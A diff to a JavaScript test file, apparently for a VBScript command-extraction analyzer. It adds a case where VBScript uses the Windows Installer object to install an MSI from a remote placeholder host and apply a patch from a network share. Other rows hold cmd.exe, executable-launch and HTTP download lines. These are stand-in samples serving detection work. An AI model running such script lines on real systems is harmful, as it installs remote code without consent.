@@ -45,6 +45,18 @@ describe('VBScript', () => {
       ['cmd.exe /c x'],
     ],
     ['Exec and Create', ['s.Exec("a.exe")', 'p.Create "b.exe", null, null, i'], ['a.exe', 'b.exe']],
+    [
+      'InstallProduct and ApplyPatch',
+      [
+        'Set i = CreateObject("WindowsInstaller.Installer")',
+        'i.InstallProduct "http://host.invalid/a.msi", "ACTION=INSTALL Q=1"',
+        'i.ApplyPatch "\\\\host.invalid\\s\\b.msp", "", 0, "R=1"',
+      ],
+      [
+        'msiexec /i "http://host.invalid/a.msi" ACTION=INSTALL Q=1',
+        'msiexec /p "\\\\host.invalid\\s\\b.msp" R=1',
+      ],
+    ],
     ['download', ['h.open "GET", "http://" & "a.info/x", False'], ['XMLHTTP GET http://a.info/x']],
     ['quotes inside', ['s.Run """c:\\a b.exe"" /q"'], ['"c:\\a b.exe" /q']],
   ])('%s', (_, lines, expected) => {
